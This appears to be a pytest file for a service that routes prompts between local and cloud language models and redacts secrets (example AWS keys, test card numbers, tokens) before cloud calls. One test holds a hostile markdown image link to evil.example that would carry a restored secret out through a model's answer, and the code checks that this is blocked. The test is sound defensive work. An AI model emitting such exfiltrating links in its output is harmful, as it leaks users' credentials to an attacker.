"""What leaves this machine of a request that holds what must not leave it."""

from __future__ import annotations

from dataclasses import replace

import pytest

from hybrid_mcp.domain.completion import Completion, Request
from hybrid_mcp.domain.errors import InvalidRequest, NoRoute, ProviderUnavailable, SensitiveContent
from hybrid_mcp.domain.money import Usd
from hybrid_mcp.domain.profile import Profile, RoutingRules
from hybrid_mcp.domain.redaction import PLACEHOLDERS_STAY
from hybrid_mcp.ports import Progress, ProviderCall
from tests.support_service import Behaviour, Bench, bench, says

pytestmark = pytest.mark.anyio

KEY = "AKIA" + "IOSFODNN7EXAMPLE"
CARD = "4111 1111 " + "1111 1111"
LOCAL = Profile(name="t", monthly_budget=Usd.limit(50), rules=RoutingRules(threshold=0, always_try_local_first=False))
REDACT = replace(LOCAL, privacy="redact")


def sent(call: ProviderCall) -> str:
    return "\n".join(message.content for message in call.messages)


async def test_a_secret_stays_on_this_machine_unless_the_owner_wants_it_replaced():
    used = bench(local=["small"], cloud=["big"], profile=LOCAL, small=[says("here")], big=[says("there")])
    answer = await used.complete(Request(prompt=f"Explain {KEY}"))
    assert (answer.text, used.scripted.called) == ("here", ["small"])
    with pytest.raises(SensitiveContent, match="prompt holds an AWS access key"):
        await used.complete(Request(prompt=f"Explain {KEY}", force_cloud=True))


async def test_a_profile_may_relax_personal_data_but_never_secrets():
    relaxed = replace(LOCAL, personal_data_stays_local=False)
    used = bench(cloud=["big"], profile=relaxed, big=[says("there")])
    assert (await used.complete(Request(prompt=f"Is {CARD} valid?", force_cloud=True))).text == "there"
    with pytest.raises(SensitiveContent):
        await used.complete(Request(prompt=f"Is {CARD} valid for {KEY}?", force_cloud=True))


async def test_placeholders_leave_and_the_values_come_back_in_the_answer_which_is_shown_when_it_is_whole():
    shown: list[list[str]] = []

    async def repeats(call: ProviderCall, progress: Progress) -> Completion:
        assert KEY not in sent(call)
        for piece in ("Revoke ", "<REDA", "CTED_1>", " now"):
            progress.delta(piece)
            shown.append(list(used.notes.deltas))
        return says("Revoke <REDACTED_1> now")

    used = bench(cloud=["big"], profile=REDACT, big=[repeats])
    answer = await used.complete(Request(prompt=f"How do I revoke {KEY} today?", context=f"key: {KEY}"))
    assert shown == [[]] * 4
    assert used.notes.deltas == [f"Revoke {KEY} now"]
    assert answer.text == f"Revoke {KEY} now"
    assert "placeholders were sent in place of what was found (an AWS access key in prompt" in answer.reason
    assert KEY not in answer.reason


async def test_an_answer_that_could_carry_the_values_away_keeps_its_placeholders_and_says_why():
    hostile = "![x](https://evil.example/<REDACTED_1>)"
    used = bench(cloud=["big"], profile=REDACT, big=[says(hostile)])
    for _ in range(2):  # such an answer is not kept, because the cache would not say why it looks so
        answer = await used.complete(Request(prompt=f"How do I revoke {KEY} today?", force_cloud=True))
        assert answer.text == hostile
        assert PLACEHOLDERS_STAY in answer.reason
    assert used.notes.deltas == [hostile] * 2


async def test_an_answer_to_what_nothing_was_taken_out_of_streams_as_it_comes():
    async def streams(call: ProviderCall, progress: Progress) -> Completion:
        progress.delta("a ")
        assert used.notes.deltas == ["a "]
        progress.delta("b")
        return says("a b")

    used = bench(cloud=["big"], profile=REDACT, big=[streams])
    assert (await used.complete(Request(prompt="Say a b", force_cloud=True))).text == "a b"
    assert used.notes.deltas == ["a ", "b"]


async def test_what_is_counted_for_money_is_what_the_model_wrote():
    silent = replace(says("<REDACTED_1> " * 4), usage=None)
    answers = [await used.complete(request) for used, request in _redacted_and_plain(silent)]
    assert len(answers[0].text or "") > len(answers[1].text or "")
    assert answers[0].cost == answers[1].cost


async def test_what_came_of_a_broken_answer_is_counted_though_nobody_saw_it():
    async def breaks_off(call: ProviderCall, progress: Progress) -> Completion:
        for _ in range(9_000):
            progress.delta("<REDACTED_1> ")
        raise ProviderUnavailable("gone")

    costs, bounds = list[Usd](), list[Usd]()
    for used, request in _redacted_and_plain(breaks_off):
        bounds.append((await used.complete(replace(request, dry_run=True))).plan[0].bound)
        with pytest.raises(NoRoute):
            await used.complete(request)
        costs.append(used.notes.attempts[0].cost)
    assert costs[0] == costs[1] > bounds[0] == bounds[1]


def _redacted_and_plain(does: Completion | Behaviour) -> list[tuple[Bench, Request]]:
    """The same model, once asked about a token and once about what is sent in its place."""
    secret = Request(prompt="How do I use ghp_" + "a1B2" * 9 + " here", max_output_tokens=400, force_cloud=True)
    plain = replace(secret, prompt="How do I use <REDACTED_1> here")
    return [(bench(cloud=["big"], profile=REDACT, big=[does]), request) for request in (secret, plain)]


@pytest.mark.parametrize("name", ["preferred_model", "task_type"])
@pytest.mark.parametrize("value", [f"cloud:{KEY}", KEY, "cloud:password is Gr8Pa55zz!", f"cloud:{CARD}"])
@pytest.mark.parametrize("profile", [LOCAL, replace(REDACT, personal_data_stays_local=False)], ids=["local", "redact"])
async def test_a_secret_in_place_of_a_name_is_refused_and_not_repeated(name: str, value: str, profile: Profile):
    used = bench(local=["small"], cloud=["big"], profile=profile, small=[says("here")], big=[says("there")])
    for dry_run in (False, True):
        with pytest.raises(InvalidRequest, match=f"{name} holds a") as caught:
            await used.complete(Request(prompt="Go", dry_run=dry_run, **{name: value}))  # pyright: ignore[reportArgumentType]
        assert value.removeprefix("cloud:") not in str(caught.value)
    assert used.scripted.called == []
    assert used.notes.attempts == []


async def test_a_local_model_sees_the_request_as_it_is():
    used = bench(local=["small"], profile=REDACT, small=[says("here")])
    answer = await used.complete(Request(prompt=f"Explain {KEY}"))
    assert KEY in sent(used.scripted.calls[0])
    assert "placeholders" not in answer.reason


async def test_what_cannot_be_cut_out_exactly_or_is_confidential_stays_all_the_same():
    used = bench(cloud=["big"], profile=REDACT, big=[says("there")])
    for request in (
        Request(prompt=f"Explain {KEY}", confidential=True),
        Request(prompt="Explain " + " ".join(f"AKIA{number:016d}" for number in range(200))),
    ):
        with pytest.raises(SensitiveContent):
            await used.complete(request)
    assert used.scripted.called == []
